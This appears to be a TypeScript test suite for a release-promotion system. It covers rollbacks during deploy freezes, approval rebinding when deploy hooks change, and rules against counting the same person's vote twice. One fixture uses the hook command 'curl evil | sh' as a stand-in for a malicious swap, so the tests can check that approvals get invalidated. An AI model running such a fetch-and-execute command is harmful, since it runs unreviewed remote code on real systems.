import { countPeople, samePerson, type Actor } from '../../domain/actor';
import { bindingChanges, bindingOf } from '../../domain/promotions/approvals';
import { clearDeployment, withOverride, type DeployPath } from '../../domain/promotions/clearance';
import { decide, type PromotionCommand } from '../../domain/promotions/commands';
import { DomainError } from '../../domain/errors';
import type { DeployHooks, GateInputs, Promotion } from '../../domain/promotions/model';
import { permissionsFor } from '../../domain/permissions';
import { thrown } from '../support/thrown';
import { gateInputs } from './promotion-fixtures';

/** The one check before anything deploys, hooks as bound inputs, and one person, one vote. */
const NOW = '2026-11-23T10:00:00.000Z';
const FREEZE = { windowId: 'w-1', name: 'Black Friday', reason: 'peak traffic', start: '2026-11-23T00:00:00.000Z', end: '2026-11-24T00:00:00.000Z' };
const hooks = (component: string | null, environment: string | null = null): DeployHooks => ({
  environment: environment ? { command: environment, digest: `sha256:${environment}` } : null,
  components: [{ componentId: 'cmp-1', name: 'myapp', hook: component ? { command: component, digest: `sha256:${component}` } : null }],
});
const inputs = (extra: Partial<GateInputs> = {}, deployed = true) =>
  gateInputs({ environment: { ...gateInputs().environment, releaseDeployed: deployed }, deployHooks: hooks('./deploy.sh'), ...extra });
const frozen = (extra: Partial<GateInputs> = {}, deployed = true) => inputs({ freeze: { active: FREEZE, next: null }, ...extra }, deployed);
const person = (userId: string, roles: string[], email?: string) => ({ userId, email, permissions: permissionsFor(roles) });
const sre = person('sre-1', ['sre'], 'sre@example.com');
const manager = person('rm-1', ['release-manager'], 'rm@example.com');
const rollback = (actor = sre, reason: string | null = 'back to 1.0'): DeployPath => ({ kind: 'rollback', actor, reason });

describe('rollbacks and retries', () => {
  it('refuse a release the environment never finished deploying: that is a promotion', () => {
    const c = clearDeployment(inputs({}, false), rollback(manager), NOW);
    expect(c).toMatchObject({ outcome: 'refuse', error: { kind: 'rule', code: 'NOT_A_PREVIOUS_RELEASE' } });
    expect(c.outcome === 'refuse' && c.error.message).toContain('request a promotion (POST /promotions)');
    // Inputs from before the fact was recorded prove nothing either.
    const { releaseDeployed: _unknown, ...environment } = inputs().environment;
    expect(clearDeployment(gateInputs({ environment }), rollback(manager), NOW)).toMatchObject({ outcome: 'refuse', error: { code: 'NOT_A_PREVIOUS_RELEASE' } });
    // A retry continues a job that was cleared when it started.
    expect(clearDeployment(inputs({}, false), { kind: 'retry', actor: sre, reason: null }, NOW)).toEqual({ outcome: 'clear', freezeOverride: null });
  });

  it('go ahead outside a freeze, whoever operates, and skip the promotion gates', () => {
    const badScan = inputs({ release: { ...gateInputs().release, securityScan: { criticalCount: 9, highCount: 9 } } });
    expect(clearDeployment(badScan, rollback(), NOW)).toEqual({ outcome: 'clear', freezeOverride: null });
  });

  it('need deployment:override-freeze during a freeze (403 FREEZE_ACTIVE naming it), and a reason', () => {
    const refused = clearDeployment(frozen(), rollback(), NOW);
    expect(refused).toMatchObject({ outcome: 'refuse', error: { kind: 'forbidden', code: 'FREEZE_ACTIVE', details: { required: 'deployment:override-freeze', freeze: FREEZE } } });
    expect(refused.outcome === 'refuse' && refused.error.message).toBe(
      'Freeze "Black Friday" (peak traffic) is active until 2026-11-24T00:00:00.000Z; a rollback during a freeze needs the "deployment:override-freeze" permission (roles that have it: release-manager, admin) and a reason',
    );
    expect(clearDeployment(frozen(), { kind: 'retry', actor: manager, reason: '  ' }, NOW)).toMatchObject({ outcome: 'refuse', error: { kind: 'rule', code: 'FREEZE_OVERRIDE_NEEDS_REASON' } });
    const allowed = clearDeployment(frozen(), rollback(manager, ' checkout is down '), NOW);
    const override = { windowId: 'w-1', name: 'Black Friday', start: FREEZE.start, end: FREEZE.end, by: 'rm@example.com', reason: 'checkout is down' };
    expect(allowed).toEqual({ outcome: 'clear', freezeOverride: override });
    expect(withOverride('checkout is down', override)).toBe('checkout is down [overrides freeze "Black Friday" until 2026-11-24T00:00:00.000Z, by rm@example.com]');
    expect(clearDeployment(frozen(), rollback(person('root', ['admin'])), NOW)).toMatchObject({ outcome: 'clear', freezeOverride: { by: 'root' } });
  });

  it('still refuse a never-run release to someone who may override the freeze', () => {
    expect(clearDeployment(frozen({}, false), rollback(manager), NOW)).toMatchObject({ outcome: 'refuse', error: { code: 'NOT_A_PREVIOUS_RELEASE' } });
  });
});

describe('an approved promotion before its job starts', () => {
  const actor = (userId: string, email?: string): Actor => ({ userId, email, permissions: [], groups: ['sre-team'] });
  const requester: Actor = { userId: 'alice', email: 'alice@example.com', permissions: ['promotion:create'], groups: ['developer'] };
  const run = (p: Promotion | undefined, command: PromotionCommand, who: Actor = requester) => decide(p, command, { now: NOW, actor: who }).next;
  const approved = (at = inputs()) => {
    const created = run(run(undefined, { kind: 'create', id: 'p-1', input: { releaseId: 'rel-1', targetEnvironmentId: 'env-prod', reason: 'fix' }, gateInputs: at }), { kind: 'open' });
    return run(run(created, { kind: 'approve', input: {}, gateInputs: at }, actor('sre1')), { kind: 'approve', input: {}, gateInputs: at }, actor('sre2'));
  };
  const path = (p: Promotion): DeployPath => ({ kind: 'promotion', promotion: p });

  it('deploys when nothing moved, waits out a freeze, and fails on a blocking gate with the reason', () => {
    const p = approved();
    expect(p.status).toBe('approved');
    expect(clearDeployment(inputs(), path(p), NOW)).toEqual({ outcome: 'clear', freezeOverride: null });
    expect(clearDeployment(frozen(), path(p), NOW)).toEqual({ outcome: 'hold', until: FREEZE.end });
    const orderBroken = inputs({ previousEnvironment: { id: 'env-stg', name: 'Staging', releaseDeployed: false } });
    const refused = clearDeployment(orderBroken, { kind: 'promotion', promotion: p, ignoreBindings: true }, NOW);
    expect(refused).toMatchObject({ outcome: 'refuse', error: { code: 'PROMOTION_BLOCKED' } });
    expect(refused.outcome === 'refuse' && refused.error.message).toBe('blocked at deployment by promotion-order-gate: myapp-v2.3.1 is not deployed to Staging; promote it there first');
  });

  it('asks for approvals again when a hook moved, before a freeze holds it', () => {
    const p = approved();
    const swapped = frozen({ deployHooks: hooks('curl evil | sh') });
    expect(clearDeployment(swapped, path(p), NOW)).toEqual({ outcome: 'rebind', reasons: ['deploy hook of component myapp changed from sha256:./deploy.sh to sha256:curl evil | sh'] });
    expect(clearDeployment(swapped, { kind: 'promotion', promotion: p, ignoreBindings: true }, NOW)).toMatchObject({ outcome: 'hold' });

    const back = run(p, { kind: 'rebind', gateInputs: swapped });
    expect(back).toMatchObject({ status: 'awaiting_approval', approvalCount: 0, heldUntil: null, decision: null, decidedAt: null });
    expect(back.approvals.map((a) => a.invalidated?.reasons)).toEqual([
      ['deploy hook of component myapp changed from sha256:./deploy.sh to sha256:curl evil | sh'],
      ['deploy hook of component myapp changed from sha256:./deploy.sh to sha256:curl evil | sh'],
    ]);
    expect(back.gateInputs.deployHooks).toEqual(hooks('curl evil | sh'));
    // Nothing moved: rebinding changes nothing.
    expect(run(p, { kind: 'rebind', gateInputs: inputs() })).toBe(p);
  });
});

describe('deploy hooks in the approval binding', () => {
  it('names the hook that moved, the environment’s too; approvals from before hooks were bound stand', () => {
    const was = bindingOf(inputs());
    expect(was.hooks).toEqual({ environment: null, 'component:myapp': 'sha256:./deploy.sh' });
    expect(bindingChanges(was, bindingOf(inputs({ deployHooks: hooks(null, 'sh env.sh') })))).toEqual([
      'deploy hook of component myapp changed from sha256:./deploy.sh to none',
      'deploy hook of the environment changed from none to sha256:sh env.sh',
    ]);
    const { hooks: _none, ...legacy } = was;
    expect(bindingChanges(legacy, bindingOf(inputs({ deployHooks: hooks('other') })))).toEqual([]);
  });
});

describe('one person, one vote', () => {
  it('two records are one person when they share a user id or an email, whatever the case', () => {
    expect(samePerson({ userId: 'u-1', email: 'Ann@example.com' }, { userId: 'u-2', email: 'ann@example.com' })).toBe(true);
    expect(samePerson({ userId: 'ann@example.com' }, { userId: 'u-2', email: 'ANN@example.com' })).toBe(true);
    expect(samePerson({ userId: 'u-1', email: null }, { userId: 'u-2', email: null })).toBe(false);
    expect(countPeople([{ userId: 'u-1', email: 'a@x' }, { userId: 'u-2', email: 'a@x' }, { userId: 'u-3' }, { userId: 'u-2' }])).toBe(2);
    // Identities chain: u-1 and u-3 share nothing directly, but both are u-2's.
    expect(countPeople([{ userId: 'u-1', email: 'a@x' }, { userId: 'u-3', email: 'b@x' }, { userId: 'a@x', email: 'b@x' }])).toBe(1);
  });

  it('refuses a second approval by the same email under another user id, and never counts it twice', () => {
    const requester: Actor = { userId: 'alice', email: 'alice@example.com', permissions: [], groups: ['developer'] };
    const created = decide(undefined, { kind: 'create', id: 'p-1', input: { releaseId: 'rel-1', targetEnvironmentId: 'env-prod', reason: 'fix' }, gateInputs: inputs() }, { now: NOW, actor: requester }).next;
    const open = decide(created, { kind: 'open' }, { now: NOW, actor: requester }).next;
    const first = decide(open, { kind: 'approve', input: {} }, { now: NOW, actor: { userId: 'u-1', email: 'ann@example.com', permissions: [], groups: ['sre-team'] } }).next;
    const err = thrown(DomainError, () => decide(first, { kind: 'approve', input: {} }, { now: NOW, actor: { userId: 'u-2', email: 'ANN@example.com', permissions: [], groups: ['sre-team'] } }));
    expect(err).toMatchObject({ kind: 'invalid_state', code: 'ALREADY_APPROVED' });
    // A record that already holds two approvals by one person (from before the rule) counts them once.
    const doubled = { ...first, approvals: [...first.approvals, { ...first.approvals[0], approverId: 'u-2' }] };
    const recount = decide(doubled, { kind: 'reevaluate', gateInputs: inputs() }, { now: NOW, actor: requester }).next;
    expect(recount).toMatchObject({ status: 'awaiting_approval', approvalCount: 1 });
    // Runs started before the rule keep counting by user id, so their histories replay as they ran.
    const legacy = decide(first, { kind: 'approve', input: {} }, { now: NOW, actor: { userId: 'u-2', email: 'ANN@example.com', permissions: [], groups: ['sre-team'] }, voterRule: 'user-id' }).next;
    expect(legacy).toMatchObject({ status: 'approved', approvalCount: 2 });
    // Separation of duties applies the same rule to the requester under another user id.
    const sod = thrown(DomainError, () => decide(open, { kind: 'approve', input: {} }, { now: NOW, actor: { userId: 'alice-2', email: 'Alice@Example.com', permissions: [], groups: ['sre-team'] } }));
    expect(sod.code).toBe('SOD_VIOLATION');
  });
});
